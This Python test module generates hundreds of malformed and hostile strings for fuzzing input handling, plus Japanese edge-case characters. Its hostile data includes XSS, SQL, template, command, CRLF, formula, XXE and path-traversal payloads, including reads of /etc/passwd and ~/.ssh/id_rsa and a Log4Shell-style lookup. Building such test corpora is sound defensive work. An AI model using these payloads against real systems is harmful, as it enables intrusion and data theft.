"""Strings that programs stumble over: 515 of every kind, and 200 as Japanese paper and machines make them.

Made by category from small parts, so that a reader sees what each is for. Every string is different.
"""

from collections.abc import Iterator
from itertools import product

ALERT = "alert(1)"
TAGS = (
    "script", "img src=x", "svg", "iframe", "object", "embed", "body", "details open", "video", "audio",
    "input autofocus",
    "select autofocus", "textarea autofocus", "button", "marquee", "table", "form", "a",
    "link rel=stylesheet",
    "meta http-equiv=refresh", "base", "style", "math", "template", "noscript", "xmp", "plaintext",
    "title", "frameset",
    "slot", "dialog open", "portal",
)  # fmt: skip
EVENTS = (
    "load", "error", "click", "focus", "blur", "mouseover", "mouseenter", "pointerdown", "keydown",
    "input", "change",
    "submit", "toggle", "animationstart", "transitionend", "wheel", "copy", "paste", "drag", "drop",
    "begin", "end",
    "beforeunload", "hashchange", "pageshow", "message",
)  # fmt: skip
ENDINGS = (
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</svg>",
    "`",
    "&quot;>",
)
PAYLOADS = (f"<script>{ALERT}</script>", f"<img src=x onerror={ALERT}>")


def _html() -> Iterator[str]:
    yield from (f"<{tag} onload={ALERT} onerror={ALERT}>" for tag in TAGS)
    yield from (f'" on{event}="{ALERT}' for event in EVENTS)
    yield from (ending + payload for ending, payload in product(ENDINGS, PAYLOADS))
    yield from (
        f"<ScRiPt>{ALERT}</sCrIpT>", f"<script/x>{ALERT}</script>", f"<scr<script>ipt>{ALERT}</script>",
        f"&lt;script&gt;{ALERT}&lt;/script&gt;", f"&#60;script&#62;{ALERT}",
        f"%3Cscript%3E{ALERT}%3C/script%3E",
        f"＜script＞{ALERT}＜/script＞", f"<!--><script>{ALERT}", f"<![CDATA[<script>{ALERT}]]>", "<",
        ">", "&", "&amp;", "&#0;",
        "&#x1F4A9;", "&nosuch;", "<br>", "</main>", "<!DOCTYPE html>", "<?xml version='1.0'?>",
        "{% raw %}<b>", "<b", "<>",
    )  # fmt: skip


def _scripts() -> Iterator[str]:
    yield from (
        f"{scheme}{ALERT}"
        for scheme in (
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            " javascript:",
            "javascript&#58;",
            "vbscript:",
        )
    )
    yield from (
        f"data:text/html,<script>{ALERT}</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "//example.invalid/x.js",
        "http://example.invalid/", "file:///etc/passwd", "blob:null/x", f"';{ALERT}//", f'";{ALERT}//',
        f"\\';{ALERT}//",
        f"`${{{ALERT}}}`", f"-{ALERT}-", f"*/{ALERT}/*", f"\u2028{ALERT}",
        f"\\u003cscript\\u003e{ALERT}", "\\x3cb\\x3e",
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "undefined",
        "null", "NaN",
        "[object Object]", "function(){}", "()=>1", "this", "document.cookie", "//", "/*", "<!--", "\\",
        "\\\\", "\\'", '\\"',
    )  # fmt: skip


def _queries() -> Iterator[str]:
    tables = ("cases", "answers", "events")
    yield from (f"{quote}; {verb} {table}; --" for quote, (verb, table) in product(
        ("'", '"', "')"), (("DROP TABLE", tables[0]), ("DELETE FROM", tables[1]), ("TRUNCATE",
        tables[2]))))  # fmt: skip
    yield from (f"{quote} OR {quote}1{quote}={quote}1" for quote in ("'", '"', "`", ""))
    yield from (
        "' UNION SELECT NULL--", "' UNION SELECT name FROM sqlite_master--", "1; SELECT pg_sleep(9)--",
        "'||'x", "' AND 1=0 --",
        "admin'--", "') OR ('1'='1", "1/0", "0x27", "CHAR(39)", "%", "_", "%%", "_%", "\\%", "\\_", "*",
        "?", "%27", "''", "'",
        '"', "`", "$$", "$1", ":name", "?1", "{fn now()}", "/*! */", "@@version", "NULL", "DEFAULT",
        "x' AND SLEEP(9)#",
        "*)(uid=*", "(|(cn=*))", "' or count(//*)=1 or '", "{\"$gt\": \"\"}", "{'$where': '1'}",
        "[1 TO *]", "field:value",
        "AND", "OR", "NOT", "NEAR(a b)", "\"unclosed", "(", ")", "^", "~1", "a AND b OR NOT c", "MATCH *",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    yield from (f"{before}7*7{after}" for before, after in (
        ("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{%", "%}"), ("[[", "]]"), ("@(", ")"),
        ("*{", "}"), ("{{{", "}}}"),
        ("$((", "))"), ("`", "`"), ("{#", "#}"),
    ))  # fmt: skip
    yield from (
        "{{config}}", "{{request.app}}", "{{''.__class__.__mro__}}", "{% include '/etc/passwd' %}",
        "{0}", "{}", "{name}",
        "{0.__class__}", "{:>99999999}", "%s", "%d", "%n", "%x%x%x%x", "%(name)s", "%99999999s", "%%s",
        "%c", "$HOME", "${HOME}",
        "%USERPROFILE%", "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "> /tmp/x", "< /etc/passwd",
        "-rf /", "--help", "-",
        "--", "!!", "~root", "${jndi:ldap://example.invalid/a}", "() { :;}; id", "__import__('os')",
        "eval('1')", "exec", "\\n",
        "!!python/object/apply:os.system", "*alias", "&anchor", "<<: x", "- a", "a: b", "# no comment",
        "---", "...", "yes", "~",
        '{"a": 1}', "[1, 2]", '{"a":', "<a/>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;",
        "(a+)+$", "[", "(?P<x>", "\\d",
        "X-Header: a\r\nSet-Cookie: b=c", "a\r\n\r\n<b>", "%0d%0aSet-Cookie: b=c", "a\nb", "a\tb", "\r",
    )  # fmt: skip


def _paths() -> Iterator[str]:
    yield from ("../" * depth + "etc/passwd" for depth in (1, 3, 9))
    yield from ("..\\" * depth + "windows\\win.ini" for depth in (1, 3))
    yield from (
        f"{name}{end}" for name, end in product(("CON", "NUL", "COM1", "LPT1", "AUX"), ("", ".txt", "."))
    )
    yield from (
        "..", ".", "/", "/etc/passwd", "C:\\", "\\\\server\\share", "%2e%2e%2f", "..%c0%af", "....//",
        "a/../b", ".hidden",
        "~/.ssh/id_rsa", "a.pdf.exe", "a.pdf;.exe", "a.pdf ", " a.pdf", "a.pdf.", "a:b", "a*b?.pdf",
        "a|b", "a<b>.pdf", 'a"b.pdf',
        "file:stream", "$MFT", "Thumbs.db", "desktop.ini", ".DS_Store", "-o StrictHostKeyChecking=no",
        "--version.pdf",
    )  # fmt: skip


def _cells() -> Iterator[str]:
    leaders = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", ";=", ",=")
    bodies = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid","x")')
    yield from (leader + body for leader, body in product(leaders, bodies))
    yield from (
        '"=1+1"',
        "'=1+1",
        "=",
        "+",
        "@",
        '",=1+1,"',
        "a,b",
        "a;b",
        'a"b',
        "sep=;",
        "=1+1\n=2+2",
        "{=1}",
        "R1C1",
        "#REF!",
    )


def _numbers() -> Iterator[str]:
    yield from (
        "0", "-0", "00", "1e309", "-1e309", "1e-400", "0x10", "0b1", "0o7", "1_000", "1,000",
        "1.000,00", "１２３", "٣", "²", "½", "Ⅷ",
        "㊿", "Infinity", "-Infinity", "nan", "2147483648", "-2147483649", "9223372036854775808",
        "-9223372036854775809", "9" * 400,
        "0.1", ".5", "5.", "1/2", "+81299901111", "00000000000000000001", "1.7976931348623157e308",
        "true", "false", "None",
        "0000-00-00", "9999-12-31", "10000-01-01", "1970-01-01T00:00:00Z", "2026-02-30", "24:00:60",
    )  # fmt: skip


def _signs() -> Iterator[str]:
    yield from (f"a{chr(code)}b" for code in (*range(9), 11, 12, *range(14, 32), 127, *range(128, 160, 4)))
    yield from (
        f"a{sign}b"
        for sign in "\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2060\u3164\ufeff\ufff9"
    )
    yield from (f"{sign}gpj.exe" for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069")
    yield from (
        f"a{sign}b"
        for sign in "\u2028\u2029\u0085\u00a0\u2007\u202f\u205f\ufffd\ufffe\uffff\U0001fffe\U0010ffff"
    )
    yield from (
        "\U000e0041\U000e0042",
        "e\u0301",
        "\u0301",
        "a" + "\u0335" * 40,
        "ß",
        "İ",
        "ı",
        "ﬁ",
        "Ǆ",
        "ſ",
        "Å",
        "Ω",
        "ϓ\u0301",
    )


def _scripts_of_the_world() -> Iterator[str]:
    yield from (
        "العربية", "עברית", "हिन्दी", "ภาษาไทย", "ქართული", "Ελληνικά", "Русский", "한국어", "中文简体",
        "繁體中文", "বাংলা", "አማርኛ", "ᐃᓄᒃᑎᑐᑦ",
        "𓀀𓁐", "𝕬𝖑𝖊𝖗𝖙", "ａｌｅｒｔ", "𝟙𝟚𝟛", "👍🏽", "👨‍👩‍👧‍👦", "🇯🇵", "1️⃣", "☃️", "❤",
        "(╯°□°)╯︵ ┻━┻", "Z̷̢a̸l̵g̶o̷", "אבabc", "\u202eabc",
    )  # fmt: skip


def _lengths() -> Iterator[str]:
    yield from ("x" * count for count in (256, 1_000, 4_000))
    yield from (sign * 300 for sign in ("<", "'", '"', "&", "%", "\\", "é", "👍"))
    yield from ("a " * 500, "a\u3000" * 300, "<b>" * 200)


def _paper() -> Iterator[str]:
    """外字 of the user's own part of CP932, and marks that only CP932 has."""
    yield from (f"山{chr(0xE000 + number)}太郎" for number in range(0, 1880, 94))
    yield from (
        f"{mark}神栖"
        for mark in "①⑳ⅠⅩⅰ㍉㌔㌢㍍㌘㌧㌃㌶㍑㍗㌍㌦㌣㌫㍊㌻㎜㎏㏄㎡№㏍℡㊤㊦㊧㊨㈱㈲㈹㍾㍽㍼㍻㋿∮∟⊿￢￤＇＂"
    )


def _voiced() -> Iterator[str]:
    yield from (f"{kana}\u3099" for kana in "かきくけこさしすせそはひふへほカサタハウワヰヱヲ")
    yield from (f"{kana}\u309a" for kana in "はひふへほハセツトカ")
    yield from (
        "か゛",
        "は゜",
        "ｶﾞｷﾞ",
        "ﾊﾟﾋﾟ",
        "\u3099か",
        "あ\u3099",
        "が\u3099",
        "か\u3099\u309a",
        "ヷヸヹヺ",
        "ゔ",
    )


def _characters() -> Iterator[str]:
    yield from (f"{kanji}田" for kanji in "𠮷𠮟𡈽𩸽𣘺𠀋𡌛𠂉𠃵𡚴𡸴𣏌𣗄𤭯𥇥𦊆𧃴𨉷𩊱𪀚𫝆𫠉𫞂𰻞")
    yield from (f"{kanji}{chr(0xE0100 + number)}" for kanji, number in product("葛辻邊邉祇榊", (0, 1, 2)))
    yield from (f"{kanji}谷" for kanji in "神塚福靖朗隆羽")
    yield from (
        "髙橋",
        "山﨑",
        "濵田",
        "德川",
        "彅",
        "\ufa19",
        "\ufa10",
        "\ufa1b",
        "\uf928",
        "\u2f08",
        "⺅",
        "〓",
        "々〻",
        "ゝヽ",
        "〱〲",
        "〆",
        "ヶヵ",
    )


def _inside() -> Iterator[str]:
    yield from (
        f"神栖{sign}花子" for sign in "\x00\x07\x1b\x7f\u200b\u200d\u200e\u202e\u2066\ufe0f\ufeff\u2028"
    )
    yield from (f"溝口{dash}４９９１" for dash in "‐‑‒–—―−ー一ｰ－〜～")
    yield from (
        "＝１＋１",
        "＠神栖",
        "－１",
        "神栖" * 300,
        "　",
        "　神栖　",
        "㊙" * 40,
        "神栖\t花子",
        "神栖\r\n花子",
    )


def _different(*makers: Iterator[str]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(one for maker in makers for one in maker))


NAUGHTY = _different(
    _html(), _scripts(), _queries(), _templates(), _paths(), _cells(), _numbers(), _signs(),
    _scripts_of_the_world(), _lengths()
)  # fmt: skip
JAPANESE = _different(_paper(), _voiced(), _characters(), _inside())
EVERYTHING = _different(iter(NAUGHTY), iter(JAPANESE))
